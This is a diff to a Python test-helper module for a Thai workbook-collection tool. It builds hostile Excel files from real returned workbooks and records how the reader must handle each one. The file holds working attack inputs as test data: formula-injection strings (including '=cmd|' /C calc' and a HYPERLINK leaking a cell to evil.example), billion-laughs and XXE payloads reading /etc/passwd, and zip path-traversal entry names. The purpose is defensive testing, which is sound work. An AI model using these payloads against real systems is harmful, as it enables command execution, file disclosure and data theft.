@@ -4,6 +4,11 @@ Each builder writes one file into ``folder`` and returns its path. ``CASES`` lis
 single-file cases with the problem code gather() must report for them (``None``: the file is
 a good workbook and must come through as a candidate). Zip packages are written by a small
 zip writer of our own, so that every field a hostile file could lie about can be set.
+
+``CORPUS`` is what ``collect`` must survive: REAL returned workbooks of samples/6m made hostile
+(bytes rewritten, or edited with openpyxl as a clerk's tool would), each with the outcome it must
+have. ``REGRESSIONS`` builds the files of tests/regressions/ (``python tests/hostile.py`` rewrites
+them).
 """
 
 from __future__ import annotations
@@ -11,11 +16,12 @@ from __future__ import annotations
 import datetime as dt
 import functools
 import io
+import re
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Iterable
-from dataclasses import dataclass
+from collections.abc import Callable, Iterable, Mapping
+from dataclasses import dataclass, field
 from email.message import EmailMessage
 from email.utils import format_datetime
 from pathlib import Path
@@ -778,3 +784,596 @@ CASES = [
     Case(eml_no_workbook, "intake-mail-no-workbook"),
     Case(nested_too_deep, "intake-too-deep", member="level2.zip › level1.zip › level0.zip"),
 ]
+
+
+# === the collect corpus: REAL returned workbooks made hostile ==============================
+#
+# Every workbook case starts from a real returned workbook of samples/6m. Accepted ones are
+# dated a day before the samples were saved (``older``): mixed with samples/6m, a corpus
+# workbook never wins its division's merge, so the merged records must stay exactly those of
+# samples/6m alone.
+
+SAMPLES_6M = Path(__file__).resolve().parent.parent / "samples" / "6m"
+OLDER = b"2022-09-30T08:30:00Z"  # the samples were saved 2022-10-01T08:30:00Z
+INJECTIONS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิกที่นี่")',
+    "+1",
+    "-1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+_SENTENCE = "ประชาสัมพันธ์ช่องทางการร้องเรียนการทุจริตผ่านเว็บไซต์ของหน่วยงาน ครั้งที่ 1/2566 "
+LONG_TEXT = (_SENTENCE * (32767 // len(_SENTENCE) + 1))[:32766] + "ฯ"  # Excel's most: 32,767
+READ_PARTS = (  # every XML part the collector (or calamine) parses
+    "[Content_Types].xml",
+    "_rels/.rels",
+    "xl/workbook.xml",
+    "xl/_rels/workbook.xml.rels",
+    "xl/sharedStrings.xml",
+    "xl/styles.xml",
+    "xl/worksheets/sheet1.xml",
+    "xl/worksheets/sheet2.xml",
+    "xl/worksheets/sheet3.xml",
+    "xl/worksheets/sheet4.xml",
+    "xl/worksheets/sheet5.xml",
+    "docProps/custom.xml",
+    "docProps/core.xml",
+    "docProps/app.xml",
+)
+MEASURES_PART, LOG_PART = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
+LAUGHS_DTD = b"""<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>"""
+XXE_DTD = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+
+
+def real_workbook(division: str = "finance") -> bytes:
+    """The bytes of a division's returned workbook in samples/6m."""
+    [path] = SAMPLES_6M.glob(f"ITA*_6m_{division}_*.xlsx")
+    return path.read_bytes()
+
+
+def older(data: bytes) -> bytes:
+    """``data`` as if saved a day before the samples (docProps/core.xml's modified time)."""
+
+    def edit(name: str, part: bytes) -> bytes:
+        if name != "docProps/core.xml":
+            return part
+        return re.sub(rb"(<dcterms:modified\b[^>]*>)[^<]*", rb"\g<1>" + OLDER, part, count=1)
+
+    return rezip(data, edit)
+
+
+def edit_part(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
+    """``data`` with one part passed through ``change``."""
+    return rezip(data, lambda name, body: change(body) if name == part else body)
+
+
+def clerk_edit(data: bytes, change: Callable[[object], None]) -> bytes:
+    """Open ``data`` with openpyxl, let ``change`` edit the workbook, save it (as a clerk's tool)."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    change(book)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def input_cell(book, name: str, measure_id: str):
+    """The cell of defined name ``name`` in the row of ``measure_id`` (found through the names)."""
+    from ita_xlsx.template import layout
+
+    id_sheet, id_ref = next(iter(book.defined_names[layout.NAME_MEASURE_ID].destinations))
+    row = next(r[0].row for r in book[id_sheet][id_ref.replace("$", "")] if r[0].value == measure_id)
+    return book[id_sheet][f"{_name_column(book, name)}{row}"]
+
+
+def log_cell(book, name: str, row: int):
+    """The cell of log column ``name`` (a defined name) in sheet row ``row``."""
+    sheet, _ = next(iter(book.defined_names[name].destinations))
+    return book[sheet][f"{_name_column(book, name)}{row}"]
+
+
+def _name_column(book, name: str) -> str:
+    _, ref = next(iter(book.defined_names[name].destinations))
+    return re.match(r"[A-Z]+", ref.replace("$", "")).group()
+
+
+def as_text(cell, value: str) -> None:
+    """Put ``value`` in ``cell`` as a string even when it starts with '=' (as pasted text is)."""
+    cell.value = value
+    cell.data_type = "s"
+
+
+def with_dtd(body: bytes, dtd: bytes, reference: bytes) -> bytes:
+    """A part with ``dtd`` after its XML declaration and ``reference`` inside its root element."""
+    declaration = re.match(rb"\s*<\?xml[^>]*\?>", body)
+    at = declaration.end() if declaration else 0
+    close = body.rfind(b"</")
+    return body[:at] + b"\n" + dtd + body[at:close] + reference + body[close:]
+
+
+def in_utf16(body: bytes) -> bytes:
+    """A part declared and encoded as UTF-16 (with a byte-order mark): legal XML."""
+    text = body.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
+    return b"\xff\xfe" + text.encode("utf-16-le")
+
+
+def bad_byte_in_first_string(body: bytes) -> bytes:
+    """A UTF-8 part with a byte that is not UTF-8 inside its first text."""
+    at = body.index(b"<t>") + len(b"<t>") + 3
+    return body[:at] + b"\xff" + body[at:]
+
+
+# --- the expected outcome of a corpus case ------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Expect:
+    """What ``collect.read_inputs`` must make of one corpus file, read on its own.
+
+    ``code`` set: rejected with that error (at intake or when read), naming ``part`` if given.
+    Otherwise accepted as ``division``'s workbook with exactly the problem ``codes``, and the
+    entries and log of that division's sample workbook changed by ``changes`` (measure id →
+    field → value) and ``log_changes`` (log index → field → value).
+    """
+
+    code: str | None = None
+    part: str | None = None
+    division: str = "finance"
+    codes: frozenset[str] = frozenset()
+    changes: Mapping[str, Mapping[str, object]] = field(default_factory=dict)
+    log_changes: Mapping[int, Mapping[str, object]] = field(default_factory=dict)
+
+    @property
+    def accepted(self) -> bool:
+        return self.code is None
+
+    def describe(self) -> str:
+        if self.code:
+            return f"rejected {self.code}" + (f" ({self.part})" if self.part else "")
+        changed = sorted({f"{m}.{f}" for m, fs in self.changes.items() for f in fs})
+        changed += [f"log[{i}].{f}" for i, fs in self.log_changes.items() for f in fs]
+        return f"accepted {self.division} {sorted(self.codes) or '[]'}" + (
+            f", changed {', '.join(changed)}" if changed else ", records as the sample"
+        )
+
+
+def rejected(code: str, part: str | None = None) -> Expect:
+    return Expect(code=code, part=part)
+
+
+def accepted(division: str = "finance", codes: Iterable[str] = (), **changes) -> Expect:
+    return Expect(division=division, codes=frozenset(codes), **changes)
+
+
+@dataclass(frozen=True)
+class CorpusCase:
+    name: str  # the quirk: test id, and the stem of the file unless the builder names it
+    build: Callable[[Path], Path]
+    expect: Expect
+
+
+def _bytes_case(name: str, file: str, make: Callable[[], bytes], expect: Expect) -> CorpusCase:
+    return CorpusCase(name, lambda folder: _write(folder, file, make()), expect)
+
+
+def _injection_case(number: int, value: str) -> CorpusCase:
+    """Every input column of measure i7, and of the first log row, holds ``value`` as text."""
+    from ita_xlsx.template import layout
+
+    def change(book) -> None:
+        for name in layout.INPUT_NAMES:
+            as_text(input_cell(book, name, "i7"), value)
+        for name in (layout.NAME_LOG_DATE, layout.NAME_LOG_DETAIL, layout.NAME_LOG_EVIDENCE):
+            as_text(log_cell(book, name, 4), value)
+        as_text(log_cell(book, layout.NAME_LOG_MEASURE, 203), value)  # the last (empty) log row
+
+    kept = value.strip()  # free text is kept, trimmed; a CR has become LF in the XML anyway
+    expect = accepted(
+        codes=("status-unknown", "date-unparseable", "log-unknown-measure"),
+        changes={"i7": {"status": None, "action_date": None, "result": kept, "evidence": kept, "note": kept}},
+        log_changes={0: {"date": None, "detail": kept, "evidence": kept}},
+    )
+    return _bytes_case(
+        f"formula-injection-{number}",
+        f"formula-injection-{number}.xlsx",
+        lambda: older(clerk_edit(real_workbook(), change)),
+        expect,
+    )
+
+
+def _doctype_case(kind: str, part: str) -> CorpusCase:
+    dtd, reference = (LAUGHS_DTD, b"&lol9;") if kind == "billion-laughs" else (XXE_DTD, b"&xxe;")
+    name = f"{kind}-in-{part.replace('/', '_').replace('[', '').replace(']', '')}"
+    return _bytes_case(
+        name,
+        f"{name}.xlsx",
+        lambda: edit_part(real_workbook(), part, lambda body: with_dtd(body, dtd, reference)),
+        rejected("xml-doctype-forbidden", part),
+    )
+
+
+def _encrypted_real() -> bytes:
+    from msoffcrypto.format.ooxml import OOXMLFile
+
+    locked = io.BytesIO()
+    OOXMLFile(io.BytesIO(real_workbook())).encrypt("รหัสผ่าน1234", locked)
+    return locked.getvalue()
+
+
+def _strict_real() -> bytes:
+    swaps = {
+        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
+        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
+            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
+        ),
+    }
+
+    def edit(name: str, data: bytes) -> bytes:
+        for old, new in swaps.items():
+            data = data.replace(old, new)
+        return data
+
+    return rezip(real_workbook(), edit)
+
+
+def _real_entries() -> list[Entry]:
+    with zipfile.ZipFile(io.BytesIO(real_workbook())) as source:
+        return [Entry(info.filename, source.read(info)) for info in source.infolist()]
+
+
+def _crc_lie() -> bytes:
+    entries = _real_entries()
+    for entry in entries:
+        if entry.name == MEASURES_PART:
+            entry.crc = zlib.crc32(entry.data) ^ 0x5A5A5A5A
+    return zip_bytes(entries)
+
+
+def _truncated_real() -> bytes:
+    data = real_workbook()
+    return data[: len(data) * 2 // 3]
+
+
+def _last_log_row(book) -> None:
+    """A log entry typed into the sheet's last row, 1,048,576 (outside the log's names)."""
+    sheet = book["บันทึกการดำเนินการ"]
+    sheet.cell(row=1048576, column=2, value="i7")
+    sheet.cell(row=1048576, column=4, value="แถวสุดท้ายของแผ่นงาน")
+
+
+def _huge_dimension(data: bytes) -> bytes:
+    for part in (MEASURES_PART, LOG_PART):
+        data = edit_part(
+            data,
+            part,
+            lambda body: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', body),
+        )
+    return data
+
+
+def _epoch_1904(book) -> None:
+    from openpyxl.utils.datetime import CALENDAR_MAC_1904
+
+    book.epoch = CALENDAR_MAC_1904  # openpyxl rewrites every date as a 1904-based serial
+
+
+def _long_result(book) -> None:
+    from ita_xlsx.template import layout
+
+    as_text(input_cell(book, layout.NAME_RESULT, "i7"), LONG_TEXT)
+
+
+def _live_formula(book) -> None:
+    """A real formula (not text) in a result cell, saved without a cached value."""
+    from ita_xlsx.template import layout
+
+    input_cell(book, layout.NAME_RESULT, "i7").value = '=HYPERLINK("http://evil.example/","คลิก")'
+
+
+def _date_out_of_range(book) -> None:
+    """A number far below any date in a date cell (python-calamine panics converting it)."""
+    from ita_xlsx.template import layout
+
+    input_cell(book, layout.NAME_ACTION_DATE, "i7").value = -1e15
+
+
+def _with_macros(data: bytes) -> bytes:
+    return rezip(data, add=[Entry("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really VBA")])
+
+
+def _traversal(name: str) -> Callable[[], bytes]:
+    return lambda: zip_bytes([*_real_entries(), Entry(name, b"owned")])
+
+
+CORPUS: list[CorpusCase] = [
+    # --- refused before any parser sees them
+    CorpusCase("zip-bomb-1.1-GB-from-3-MB", real_bomb, rejected("intake-zip-bomb")),
+    *(_doctype_case(kind, part) for kind in ("billion-laughs", "external-entity") for part in READ_PARTS),
+    _bytes_case("truncated", "ตัดท้าย กองคลัง.xlsx", _truncated_real, rejected("intake-truncated")),
+    _bytes_case("crc-damaged", "crc damaged.xlsx", _crc_lie, rejected("intake-truncated")),
+    _bytes_case(
+        "duplicate-entry-name",
+        "duplicate entry.xlsx",
+        lambda: zip_bytes([*_real_entries(), Entry(MEASURES_PART, b"<worksheet/>")]),
+        rejected("intake-zip-duplicate-name"),
+    ),
+    _bytes_case(
+        "path-traversal-entry",
+        "traversal.xlsx",
+        _traversal("../../../../tmp/ita-owned.txt"),
+        rejected("intake-zip-unsafe-name"),
+    ),
+    _bytes_case(
+        "backslash-traversal-entry",
+        "traversal-backslash.xlsx",
+        _traversal("xl\\..\\..\\..\\evil.xml"),
+        rejected("intake-zip-unsafe-name"),
+    ),
+    _bytes_case(
+        "encrypted-real-workbook", "รหัสผ่าน กองคลัง.xlsx", _encrypted_real, rejected("intake-encrypted")
+    ),
+    CorpusCase("old-xls", xls_ole, rejected("intake-xls")),
+    CorpusCase("xlsb", xlsb_shaped, rejected("intake-xlsb")),
+    CorpusCase("ods", ods_shaped, rejected("intake-ods")),
+    _bytes_case("strict-ooxml", "strict กองคลัง.xlsx", _strict_real, rejected("intake-strict-ooxml")),
+    CorpusCase("zero-bytes", empty_file, rejected("intake-empty")),
+    CorpusCase("pdf-named-xlsx", pdf_renamed_xlsx, rejected("intake-pdf")),
+    # --- refused by the reader
+    _bytes_case(
+        "invalid-utf8-byte-in-sharedStrings",
+        "bad byte.xlsx",
+        lambda: edit_part(real_workbook(), "xl/sharedStrings.xml", bad_byte_in_first_string),
+        rejected("xml-malformed"),
+    ),
+    # --- accepted, read right
+    _bytes_case(
+        "thai-name-with-spaces",
+        "ผลการดำเนินงาน สำนักปลัด ฉบับแก้ไข ล่าสุด.xlsx",
+        lambda: older(real_workbook("palad")),
+        accepted("palad"),
+    ),
+    _bytes_case(
+        "xlsx-named-pdf", "แบบรายงาน กองช่าง.pdf", lambda: older(real_workbook("works")), accepted("works")
+    ),
+    _bytes_case(
+        "xlsm-with-macros",
+        "กองการศึกษา มีมาโคร.xlsm",
+        lambda: older(_with_macros(real_workbook("education"))),
+        accepted("education", ["intake-macros"]),
+    ),
+    _bytes_case(
+        "utf16-sharedStrings",
+        "utf16 strings.xlsx",
+        lambda: older(edit_part(real_workbook(), "xl/sharedStrings.xml", in_utf16)),
+        accepted(),
+    ),
+    _bytes_case(
+        "log-row-1048576",
+        "log row 1048576.xlsx",
+        lambda: older(clerk_edit(real_workbook(), _last_log_row)),
+        accepted(),
+    ),
+    _bytes_case(
+        "huge-dimension", "huge dimension.xlsx", lambda: older(_huge_dimension(real_workbook())), accepted()
+    ),
+    _bytes_case(
+        "cell-of-32767-characters",
+        "long result.xlsx",
+        lambda: older(clerk_edit(real_workbook(), _long_result)),
+        accepted(changes={"i7": {"result": LONG_TEXT}}),
+    ),
+    *(_injection_case(number, value) for number, value in enumerate(INJECTIONS, 1)),
+    _bytes_case(
+        "live-formula-without-cached-value",
+        "formula.xlsx",
+        lambda: older(clerk_edit(real_workbook(), _live_formula)),
+        accepted(changes={"i7": {"result": ""}}),
+    ),
+    _bytes_case(
+        "date-system-1904",
+        "1904.xlsx",
+        lambda: older(clerk_edit(real_workbook(), _epoch_1904)),
+        accepted(),
+    ),
+    _bytes_case(
+        "date-serial-out-of-range",
+        "date -1e15.xlsx",
+        lambda: older(clerk_edit(real_workbook(), _date_out_of_range)),
+        accepted(codes=["date-unparseable"], changes={"i7": {"action_date": None}}),
+    ),
+]
+
+
+def build_corpus(folder: Path) -> list[tuple[CorpusCase, Path]]:
+    """Write every corpus case into ``folder``; each file name is unique."""
+    folder.mkdir(parents=True, exist_ok=True)
+    built = [(case, case.build(folder)) for case in CORPUS]
+    paths = [path for _, path in built]
+    assert len(set(paths)) == len(paths), "two corpus cases wrote the same file"
+    return built
+
+
+def many_returns(folder: Path, count: int) -> Path:
+    """``count`` distinct returned workbooks (the five samples, each saved at another minute)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    divisions = ("palad", "finance", "works", "education", "audit")
+    for number in range(count):
+        stamp = b"2022-10-01T%02d:%02d:00Z" % (9 + number // 60 % 12, number % 60)
+        data = rezip(
+            real_workbook(divisions[number % 5]),
+            lambda name, body, stamp=stamp: (
+                re.sub(rb"(<dcterms:modified\b[^>]*>)[^<]*", rb"\g<1>" + stamp, body, count=1)
+                if name == "docProps/core.xml"
+                else body
+            ),
+        )
+        _write(folder, f"{number:04d} {divisions[number % 5]}.xlsx", data)
+    return folder
+
+
+# === regression files (tests/regressions/): each named after the quirk that broke the reader ===
+
+
+def _append_row(ref: str, text: str = "x") -> Callable[[bytes], bytes]:
+    row = re.sub(r"\D", "", ref)
+    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c></row>'.encode()
+    return lambda body: body.replace(b"</sheetData>", cell + b"</sheetData>", 1)
+
+
+def _drop_target(body: bytes) -> bytes:
+    """The measures sheet's relationship without its Target attribute."""
+    return (
+        re.sub(rb'(<Relationship\b[^>]*Id="rId2"[^>]*?) Target="[^"]*"', rb"\1", body)
+        if b'Id="rId2"' in body
+        else body
+    )
+
+
+def _column_map_not_a_letter(book) -> None:
+    """The status name lost, and the identity's column map giving '1' instead of a column letter."""
+    from ita_xlsx.template import layout
+
+    for row in book[layout.IDENTITY_SHEET].iter_rows():
+        if row[0].value == "columns":
+            row[1].value = row[1].value.replace(f"{layout.NAME_STATUS}=G", f"{layout.NAME_STATUS}=1")
+    del book.defined_names[layout.NAME_STATUS]
+
+
+def _row_map_ethiopic_digit(book) -> None:
+    """A row-map cell of the identity sheet holding '፩' (a digit to str.isdigit, not to int())."""
+    from ita_xlsx.template import layout
+
+    sheet = book[layout.IDENTITY_SHEET]
+    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == layout.ROW_MAP_HEADER[0])
+    sheet.cell(row=header + 2, column=1).value = "፩"
+
+
+def _utf16_sheets(data: bytes) -> bytes:
+    return edit_part(edit_part(data, MEASURES_PART, in_utf16), LOG_PART, in_utf16)
+
+
+REGRESSIONS: dict[str, Callable[[], bytes]] = {
+    "sheet-relationship-without-target.xlsx": lambda: edit_part(
+        real_workbook(), "xl/_rels/workbook.xml.rels", _drop_target
+    ),
+    "sheet-relationship-points-nowhere.xlsx": lambda: edit_part(
+        real_workbook(), "xl/_rels/workbook.xml.rels", lambda b: b.replace(b"sheet2.xml", b"sheet99.xml", 1)
+    ),
+    "cell-at-XFD1048576.xlsx": lambda: edit_part(real_workbook(), LOG_PART, _append_row("XFD1048576")),
+    "measures-row-at-1048576.xlsx": lambda: edit_part(
+        real_workbook(), MEASURES_PART, _append_row("K1048576")
+    ),
+    "measure-name-past-the-last-row.xlsx": lambda: edit_part(
+        real_workbook(), "xl/workbook.xml", lambda b: b.replace(b"$B$4:$B$19<", b"$B$4:$B$9999999<", 1)
+    ),
+    "column-map-not-a-letter.xlsx": lambda: clerk_edit(real_workbook(), _column_map_not_a_letter),
+    "column-map-not-a-letter-utf16-sheet.xlsx": lambda: _utf16_sheets(
+        clerk_edit(real_workbook(), _column_map_not_a_letter)
+    ),
+    "identity-row-map-ethiopic-digit.xlsx": lambda: clerk_edit(real_workbook(), _row_map_ethiopic_digit),
+    "utf16-sheet-parts.xlsx": lambda: _utf16_sheets(real_workbook()),
+    "date-serial-out-of-range.xlsx": lambda: clerk_edit(real_workbook(), _date_out_of_range),
+}
+
+
+def write_regressions(folder: Path) -> list[Path]:
+    """(Re)write the regression files; run when the template format changes."""
+    folder.mkdir(parents=True, exist_ok=True)
+    return [_write(folder, name, make()) for name, make in REGRESSIONS.items()]
+
+
+# === running the tool on them: a child process, its time and its own peak memory ============
+
+
+@dataclass
+class ChildRun:
+    returncode: int  # negative: killed by that signal
+    stdout: str
+    stderr: str
+    seconds: float
+    peak_rss_mb: float  # the command's peak RSS (and its workers'), 0 when it ran out of time
+    timed_out: bool = False
+
+
+# The command runs under a small wrapper that reports getrusage(RUSAGE_CHILDREN): measured from
+# the test process itself (wait4, or its own RUSAGE_CHILDREN) the figure would include the test
+# process's size, which Linux carries into a child's ru_maxrss across fork and exec.
+_WRAPPER = """
+import resource, subprocess, sys
+code = subprocess.call(sys.argv[2:])
+with open(sys.argv[1], "w") as report:
+    report.write(f"{code} {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}")
+"""
+
+
+def run_measured(argv: list[str], timeout: float, env: dict[str, str] | None = None) -> ChildRun:
+    """Run ``argv`` for at most ``timeout`` seconds; its exit code, output, time and peak RSS."""
+    import os
+    import signal
+    import subprocess
+    import sys
+    import tempfile
+    import time
+
+    with tempfile.TemporaryDirectory(prefix="ita-run-") as folder:
+        report, out_path, err_path = (Path(folder, name) for name in ("rusage", "stdout", "stderr"))
+        started = time.perf_counter()
+        with open(out_path, "wb") as out, open(err_path, "wb") as err:
+            wrapper = subprocess.Popen(
+                [sys.executable, "-c", _WRAPPER, str(report), *argv],
+                stdout=out,
+                stderr=err,
+                env=env,
+                start_new_session=True,  # one process group: a timeout kills the command too
+            )
+            try:
+                wrapper.wait(timeout)
+                timed_out = False
+            except subprocess.TimeoutExpired:
+                os.killpg(wrapper.pid, signal.SIGKILL)
+                wrapper.wait()
+                timed_out = True
+        seconds = time.perf_counter() - started
+        code, peak_kb = (-9, 0) if timed_out else map(int, report.read_text().split())
+        return ChildRun(
+            code,
+            out_path.read_text(encoding="utf-8", errors="replace"),
+            err_path.read_text(encoding="utf-8", errors="replace"),
+            seconds,
+            peak_kb / 1024,
+            timed_out,
+        )
+
+
+def ita_xlsx_argv() -> list[str]:
+    """The installed ``ita-xlsx`` command (the console script next to this Python)."""
+    import sys
+
+    script = Path(sys.executable).parent / "ita-xlsx"
+    return [str(script)] if script.exists() else [sys.executable, "-m", "ita_xlsx"]
+
+
+def assert_renders(problem) -> None:
+    """A problem's code is in the catalogue and its message fills every placeholder, in both languages."""
+    import string
+
+    from ita_xlsx import messages
+
+    assert messages.has(problem.code), problem.code
+    for template in messages.catalogue()[problem.code]:
+        wanted = {name for _, name, _, _ in string.Formatter().parse(template) if name}
+        assert wanted <= set(problem.params), (problem.code, sorted(wanted - set(problem.params)))
+    assert problem.message_th and problem.message_en
+
+
+if __name__ == "__main__":
+    for written in write_regressions(Path(__file__).resolve().parent / "regressions"):
+        print(written)
